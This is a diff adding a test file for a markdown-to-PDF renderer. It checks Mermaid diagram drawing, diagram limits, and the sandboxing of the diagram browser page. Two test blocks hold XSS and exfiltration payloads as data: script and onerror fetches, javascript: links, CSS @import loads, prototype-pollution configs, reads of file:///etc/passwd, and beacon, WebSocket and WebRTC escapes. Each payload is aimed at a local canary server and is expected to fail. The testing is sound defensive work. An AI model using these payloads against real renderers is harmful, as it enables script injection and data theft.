@@ -1,0 +1,282 @@
+import { createSocket } from "node:dgram";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Page } from "puppeteer-core";
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { createWarmBrowser } from "../../../document/browser/warm-browser.ts";
+import type { UsePage } from "../../../document/browser/warm-browser.ts";
+import { createDiagramPage } from "../../../document/diagrams/diagram-page.ts";
+import { createDiagramDrawer } from "../../../document/diagrams/diagrams.ts";
+import { createFonts } from "../../../document/page/fonts.ts";
+import { fontsUrl } from "../../../document/browser/isolated-page.ts";
+import { compileMarkdown } from "../../../document/compile.ts";
+import { createRenderer } from "../../../document/renderer.ts";
+import { comingTimeOuts } from "../../time-outs.ts";
+import { readPdf } from "./read-pdf.ts";
+
+const printer = createRenderer();
+const diagrams = createWarmBrowser({ openPage: (browser) => createDiagramPage(browser, () => undefined) });
+const requests: string[] = [];
+const canary = createServer((request, response) => {
+  requests.push(request.url ?? "");
+  response.writeHead(200, { "access-control-allow-origin": "*" }).end("x");
+});
+const datagrams = createSocket("udp4", () => requests.push("a datagram"));
+let address: string;
+
+beforeAll(async () => {
+  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
+  const { port } = canary.address() as AddressInfo;
+  await new Promise<void>((resolve) => datagrams.bind(port, "127.0.0.1", resolve));
+  address = `http://127.0.0.1:${port}`;
+});
+beforeEach(() => {
+  requests.length = 0;
+});
+afterAll(async () => {
+  await Promise.all([printer.close(), diagrams.close()]);
+  canary.closeAllConnections();
+  canary.close();
+  datagrams.close();
+});
+
+const fenced = (source: string): string => `\`\`\`mermaid\n${source}\n\`\`\``;
+
+/** Lets a page ask for images, one after the other, and be refused them: what it asked for before has had its turn by then. */
+async function laterRequests(page: Page): Promise<void> {
+  const ask = `(async () => { for (let turn = 0; turn < 20; turn++) await new Promise((done) => {
+    const image = new Image(); image.onload = image.onerror = done; image.src = "https://refused.example/" + turn; }); })()`;
+  await page.evaluate(ask).catch(() => undefined);
+}
+
+async function print(markdown: string) {
+  const { pdf } = await printer.render({ markdown, meta: {} });
+  const read = await readPdf(pdf);
+  return { ...read, raw: Buffer.from(pdf).toString("latin1") };
+}
+
+describe("a diagram", () => {
+  it("is drawn in lines and letters, not dots", async () => {
+    const { text, raw } = await print(
+      `Before\n\n${fenced("flowchart LR\n A[Bread] -->|with| B[Butter]")}\n\nAfter`,
+    );
+    expect(text[0]).toMatch(/Before .*with.*Bread.*Butter After/);
+    expect(text[0]).not.toContain("flowchart");
+    expect(raw).not.toMatch(/\/Subtype\s*\/Image/);
+    expect(raw).toContain("SourceSans3");
+  });
+
+  const kinds: readonly [string, string, RegExp][] = [
+    ["sequence", "sequenceDiagram\n A->>B: Hello", /Hello/],
+    ["class", "classDiagram\n class Animal { +eat() void }", /Animal.*eat/],
+    ["state", "stateDiagram-v2\n [*] --> Awake", /Awake/],
+    ["entities", "erDiagram\n CAT ||--o{ FLEA : has", /CAT.*has.*FLEA|has.*CAT.*FLEA/],
+    [
+      "schedule",
+      "gantt\n dateFormat YYYY-MM-DD\n section Work\n Draft the paper :2026-11-01, 30d",
+      /Draft the paper/,
+    ],
+    ["shares", 'pie title Cake\n "Mine" : 3\n "Yours" : 1', /75%.*25%/],
+    ["mind map", "mindmap\n  root((Mind))\n    Map", /Mind.*Map|Map.*Mind/],
+    ["other scripts", 'flowchart LR\n A["潮汐"] --> B["Привет"]', /潮汐.*Привет/],
+  ];
+  it.each(kinds)("of the kind %s", async (_name, source, shown) => {
+    const { text } = await print(fenced(source));
+    expect(text[0]).toMatch(shown);
+    expect(text[0]).not.toContain("could not be drawn");
+  });
+
+  it("that cannot be read shows its source and why, and the next one is drawn", async () => {
+    const { text } = await print(
+      `${fenced("flowchart LR\n A[Open -->")}\n\n${fenced("flowchart LR\n A[Fine]")}`,
+    );
+    expect(text[0]).toMatch(/This diagram could not be drawn: Parse error on line \d.*A\[Open -->/);
+    expect(text[0]).toMatch(/Fine$/);
+  });
+
+  it("is one of thirty at most", async () => {
+    const { text } = await print(
+      Array.from({ length: 32 }, (_, index) => fenced(`flowchart LR\n A[Node${index}]`)).join("\n\n"),
+    );
+    const all = text.join(" ");
+    expect(all).toContain("Node29");
+    expect(all.match(/too many diagrams/g)).toHaveLength(2);
+  });
+
+  it("that is too long is not drawn", async () => {
+    const { text } = await print(fenced(`flowchart LR\n A[${"x ".repeat(15_000)}]`));
+    expect(text[0]).toContain("could not be drawn: it is too long");
+  });
+
+  it("that takes too long is given up with its browser, and the others are drawn", async () => {
+    const nodes = Array.from({ length: 31 }, (_, index) => index);
+    const dense = nodes.flatMap((a) => nodes.slice(a + 1).map((b) => `N${a} --> N${b}`)).join("\n");
+    const fonts = createFonts(fontsUrl);
+    const drawMs = 200_000;
+    const begun = (page: Page): Page => {
+      const evaluate = page.evaluate.bind(page) as (...all: unknown[]) => unknown;
+      vi.spyOn(page as { evaluate(...all: unknown[]): unknown }, "evaluate").mockImplementation((...all) => {
+        if (all[1] === tooDense) void comingTimeOuts(drawMs).end();
+        return evaluate(...all);
+      });
+      return page;
+    };
+    const watched = Object.create(diagrams, {
+      withPage: { value: (use: UsePage<unknown>) => diagrams.withPage((page) => use(begun(page))) },
+    }) as typeof diagrams;
+    const tooDense = `flowchart LR\n${dense}`;
+    const draw = createDiagramDrawer(watched, fonts, drawMs);
+    const drawn = await draw(["flowchart LR\n A", tooDense, "flowchart LR\n B"]);
+    expect(drawn).toMatchObject([
+      { svg: expect.stringContaining("<svg") as string },
+      { reason: "it takes too long to draw" },
+      { svg: expect.stringContaining("<svg") as string },
+    ]);
+  });
+
+  it("is all that its page is told of the document", async () => {
+    const told: (readonly string[])[] = [];
+    await compileMarkdown(
+      `# Secret\n\n${fenced("flowchart LR\n A")}\n\n\`\`\`js\nsecret\n\`\`\``,
+      () => Promise.resolve(undefined),
+      (sources) => {
+        told.push(sources);
+        return Promise.resolve([]);
+      },
+    );
+    expect(told).toEqual([["flowchart LR\n A"]]);
+  });
+});
+
+describe("a hostile diagram", () => {
+  const loose =
+    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%';
+  const rows: readonly [name: string, source: (address: string) => string][] = [
+    [
+      "with markup in its labels",
+      (a) =>
+        `flowchart LR\n A["<img src='${a}/label' onerror='fetch(\\"${a}/onerror\\")'><script>fetch('${a}/script')</script>"]`,
+    ],
+    [
+      "that loosens its own security",
+      (a) =>
+        `${loose}\nflowchart LR\n A["<img src='${a}/loose' onerror=fetch('${a}/loose2')><iframe src='file:///etc/passwd'></iframe>"]`,
+    ],
+    [
+      "with links that run",
+      (a) =>
+        `flowchart LR\n A --> B\n click A href "javascript:fetch('${a}/click')"\n click B call fetch("${a}/call")`,
+    ],
+    [
+      "with a style sheet",
+      (a) =>
+        `%%{init: {"themeCSS": "@import url(${a}/import); * { background: url(${a}/theme); }"}}%%\nflowchart LR\n A`,
+    ],
+    [
+      "with a font from the web",
+      (a) =>
+        `%%{init: {"fontFamily": "x; } @font-face { font-family: y; src: url(${a}/font) }", "themeVariables": {"fontFamily": "y; } * { background: url(${a}/var) }"}}}%%\nflowchart LR\n A`,
+    ],
+    [
+      "with styles that load",
+      (a) =>
+        `flowchart LR\n A\n style A fill:url(${a}/fill)\n classDef b background:url(${a}/class)\n class A b`,
+    ],
+    [
+      "with an image",
+      (a) =>
+        `flowchart LR\n A@{ img: "${a}/image.png", label: "x", w: 60, h: 60 }\n B@{ img: "file:///etc/passwd", w: 60, h: 60 }`,
+    ],
+    [
+      "with a sequence's links",
+      (a) =>
+        `sequenceDiagram\n participant A\n links A: {"x": "javascript:fetch('${a}/links')"}\n A->>A: <img src=${a}/message>`,
+    ],
+    [
+      "with front matter",
+      (a) =>
+        `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import url(${a}/front)"\n  dompurifyConfig: {ADD_TAGS: [script, iframe]}\n---\nflowchart LR\n A["<iframe src='${a}/frame'></iframe>"]`,
+    ],
+    [
+      "with a prototype",
+      () =>
+        '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"x": 1}}}}%%\nflowchart LR\n A',
+    ],
+  ];
+  it.each(rows)("%s runs nothing, reads nothing, reaches nothing", async (_name, source) => {
+    const { text, links } = await print(`before\n\n${fenced(source(address))}\n\nafter`);
+    expect(text.join(" ")).toMatch(/before.*after/);
+    expect(text.join(" ")).not.toContain("root:");
+    expect(links).toEqual([]);
+    expect(requests).toEqual([]);
+  });
+});
+
+describe("a script in the diagrams' page, if one ever got in", () => {
+  // As strings, so that nothing rewrites them on the way into the page.
+  const rows: readonly [name: string, script: string][] = [
+    ["fetch", `fetch("{a}/fetch")`],
+    ["a fetch of a file", `fetch("file:///etc/passwd").then((r) => r.text()).then((t) => fetch("{a}/" + t))`],
+    [
+      "an image",
+      `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = "{a}/image"; })`,
+    ],
+    ["a beacon", `navigator.sendBeacon("{a}/beacon")`],
+    [
+      "a socket",
+      `new Promise((done) => { const s = new WebSocket("{a}".replace("http", "ws")); s.onerror = s.onopen = done; })`,
+    ],
+    ["a module", `import("{a}/module.js")`],
+    ["a worker", `new Worker("data:text/javascript,fetch('{a}/worker')")`],
+    [
+      "a frame",
+      `document.body.append(Object.assign(document.createElement("iframe"), { src: "{a}/frame" }))`,
+    ],
+    [
+      "a script of its own",
+      `document.body.append(Object.assign(document.createElement("script"), { textContent: "fetch('{a}/inline')" }))`,
+    ],
+    [
+      "a prefetch",
+      `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "{a}/prefetch" }))`,
+    ],
+    ["another page", `open("{a}/open")`],
+    [
+      "a form",
+      `(() => { const f = document.createElement("form"); f.action = "{a}/form"; document.body.append(f); f.submit(); })()`,
+    ],
+    ["a way out", `location.href = "{a}/navigate"`],
+    [
+      "a call",
+      `(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "{a}".slice(7) }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); })()`,
+    ],
+  ];
+  it.each(rows)("cannot reach anything by %s", async (_name, script) => {
+    await diagrams.withPage(async (page: Page) => {
+      await page.evaluate(script.replaceAll("{a}", address)).catch(() => undefined);
+      await laterRequests(page);
+    });
+    // Whatever had left by then has arrived before this.
+    await fetch(`${address}/afterwards`);
+    expect(requests).toEqual(["/afterwards"]);
+  });
+
+  it("finds no trace of the last document, and no place to leave one", async () => {
+    const left = await diagrams.withPage((page) =>
+      page.evaluate(
+        `(() => { globalThis.left = "here"; try { localStorage.x = 1; return "stored"; } catch { return "nothing stored"; } })()`,
+      ),
+    );
+    expect(left).toBe("nothing stored");
+    expect(await diagrams.withPage((page) => page.evaluate("typeof globalThis.left"))).toBe("undefined");
+  });
+
+  it("cannot evaluate a text", async () => {
+    const answer = await diagrams.withPage((page) =>
+      page.evaluate(
+        `new Promise((done) => { setTimeout("globalThis.ran = 1", 0); setTimeout(() => done(globalThis.ran ?? "blocked"), 50); })`,
+      ),
+    );
+    expect(answer).toBe("blocked");
+  });
+});
